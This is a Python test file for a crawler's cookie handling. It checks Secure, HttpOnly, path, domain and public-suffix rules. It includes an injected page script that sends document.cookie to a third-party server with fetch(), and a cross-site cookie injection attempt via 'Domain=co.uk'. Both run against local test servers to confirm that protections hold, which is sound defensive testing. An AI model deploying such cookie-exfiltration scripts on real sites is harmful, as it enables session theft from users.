"""Cookies go where browsers would send them, those of the user and those that servers set, also in shown pages."""

from __future__ import annotations

import asyncio
from collections.abc import Callable
from pathlib import Path

import pytest
from yarl import URL

from siteseer.crawler.run import crawl
from siteseer.fetch.cookies import SiteCookies
from siteseer.fetch.login_profiles import read_state, save_profile
from siteseer.model import JSON
from tests.crawler.small_site import SmallSite, pages, quick_options
from tests.fetch.tls_site import Authority, TlsSite
from tests.web.chromium import required

HTML = {"Content-Type": "text/html"}


def sent_to(site: SmallSite, path: str) -> str:
    """Return the cookies with which a path was asked for."""
    return next(entry.headers.get("cookie", "") for entry in site.seen if entry.path == path)


@pytest.fixture
def authority(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Authority:
    made = Authority.make(tmp_path)
    monkeypatch.setenv("SSL_CERT_FILE", str(made.file))
    monkeypatch.setenv("SITESEER_PROFILES", str(tmp_path / "profiles"))
    return made


def test_secure_cookies_are_not_sent_without_tls(authority: Authority, tmp_path: Path) -> None:
    """Also where a seed of the same host has no TLS: cookies know no ports."""
    lines = ["127.0.0.1\tFALSE\t/\tTRUE\t0\tkept\tfrom-file", "127.0.0.1\tFALSE\t/\tFALSE\t0\topen\tto-all"]
    cookies = tmp_path / "cookies.txt"
    cookies.write_text("# Netscape HTTP Cookie File\n" + "\n".join(lines) + "\n")
    home = {
        "/": (200, {**HTML, "Set-Cookie": "sid=from-server; Secure; Path=/"}, b"<a href=/two>2</a>"),
        "/two": "<p>2",
    }
    with (
        TlsSite(pages(home), authority.certify("good")) as safe,
        SmallSite(pages({"/": "<a href=/x>x", "/x": "x"})) as plain,
    ):
        crawl(quick_options(tmp_path / "c", safe.url, plain.url, cookies=cookies))
    assert sorted(sent_to(safe, "/two").split("; ")) == ["kept=from-file", "open=to-all", "sid=from-server"]
    assert {sent_to(plain, path) for path in ("/", "/x")} == {"open=to-all"}


def test_paths_and_domains_hold(tmp_path: Path) -> None:
    def answer(path: str, headers: dict[str, str]) -> tuple[int, dict[str, str], bytes]:
        links = b"<a href=/a/b>1</a><a href=/ab>2</a><a href=/a>3</a>"
        return 200, {**HTML, "Set-Cookie": "deep=1; Path=/a; HttpOnly"} if path == "/" else HTML, links

    cookies = tmp_path / "cookies.txt"
    lines = [".localhost\tTRUE\t/\tFALSE\t0\twide\t1", "one.localhost\tFALSE\t/ab\tFALSE\t0\town\t1"]
    cookies.write_text("# Netscape HTTP Cookie File\n" + "\n".join(lines) + "\n")
    with SmallSite(answer) as site:
        one, two = (site.url.replace("127.0.0.1", f"{name}.localhost") for name in ("one", "two"))
        crawl(quick_options(tmp_path / "c", one, two, cookies=cookies))
    asked = {(entry.headers["host"].split(".")[0], entry.path): entry.headers.get("cookie", "") for entry in site.seen}
    assert {path: sorted(asked["one", path].split("; ")) for path in ("/a", "/a/b", "/ab")} == {
        "/a": ["deep=1", "wide=1"], "/a/b": ["deep=1", "wide=1"], "/ab": ["own=1", "wide=1"],
    }  # fmt: skip
    assert asked["two", "/ab"] == "wide=1", "host-only cookies stay with their host"


def test_a_server_sets_no_cookies_for_a_domain_that_belongs_to_many(tmp_path: Path) -> None:
    """The proxy plays two sites below co.uk: what one sets does not reach the other."""
    home = (200, {**HTML, "Set-Cookie": "stolen=1; Domain=co.uk; Path=/"}, b"<p>one")
    table = {"http://one.co.uk/": home, "http://two.co.uk/": "<a href=/x>x</a>", "http://two.co.uk/x": "<p>x"}
    with SmallSite(pages(table)) as proxy:
        crawl(quick_options(tmp_path / "c", "http://one.co.uk/", "http://two.co.uk/", proxy=proxy.url, concurrency=1))
    assert "http://two.co.uk/x" in proxy.paths()
    assert not any("stolen" in entry.headers.get("cookie", "") for entry in proxy.seen)


def shown(url: str, *headers: str, before: tuple[str, ...] = ()) -> list[JSON]:
    async def made() -> list[JSON]:
        jar = SiteCookies()
        jar.update_cookies_from_headers(before, URL(url.replace("http:", "https:")))
        jar.update_cookies_from_headers(headers, URL(url))
        return [*jar.shown_to_browser(url), *jar.shown_to_browser(url.replace("http:", "https:"))]

    return asyncio.run(made())


@pytest.mark.parametrize(
    "header",
    [
        "a=1; Secure",
        "a=1; Domain=co.uk",
        "a=1; Domain=.github.io",
        "__Secure-a=1; Path=/",
        "__Host-a=1; Secure; Path=/x",
    ],
)
def test_cookies_that_browsers_refuse(header: str) -> None:
    host = "e.github.io" if "github" in header else "e.co.uk"
    assert shown(f"http://{host}/x", header) == []


def test_an_answer_without_tls_does_not_replace_a_secure_cookie() -> None:
    found = shown("http://e.org/", "sid=forged", before=("sid=true; Secure; HttpOnly",))
    assert [(one["value"], one["secure"], one["httpOnly"]) for one in found] == [("true", True, True)]


def test_cookies_txt_says_which_are_not_for_scripts(tmp_path: Path) -> None:
    file = tmp_path / "cookies.txt"
    line = "e.org\tFALSE\t/\tFALSE\t4000000000\t{}\tabc\n"
    file.write_text(f"# Netscape HTTP Cookie File\n#HttpOnly_{line.format('a')}{line.format('b')}")
    assert [(one["name"], one["httpOnly"]) for one in read_state(file)["cookies"]] == [("a", True), ("b", False)]


def test_scripts_of_a_shown_page_do_not_see_what_is_not_for_them(
    run_crawl: Callable, authority: Authority, tmp_path: Path
) -> None:
    """A script that reads all cookies and tells a third party finds neither the login nor what the server set."""
    required()
    cookie = {"name": "login", "value": "s3cret-profile", "domain": "127.0.0.1", "path": "/", "httpOnly": True}
    save_profile("me", {"cookies": [cookie], "origins": []})
    with SmallSite(pages({"/got": "x"})) as third:
        told = f"<div id=app></div><script>fetch('{third.url}/got?' + encodeURIComponent(document.cookie));"
        told += "app.textContent = 'words that only a script writes for readers: ' + document.cookie</script>"
        headers = {**HTML, "Set-Cookie": "sid=s3cret-server; Path=/; HttpOnly"}
        table = {
            "/": (200, {**HTML, "Set-Cookie": "seen=by-scripts"}, told.encode()),
            "/robots.txt": (404, headers, b""),
        }
        with SmallSite(pages(table)) as site:
            run_crawl(site.url, profile="me", browser="always", allow_private=True)
    assert sorted(sent_to(site, "/").split("; ")) == ["login=s3cret-profile", "sid=s3cret-server"]
    (asked,) = [path for path in third.paths() if path.startswith("/got")]
    assert asked == "/got?seen%3Dby-scripts"
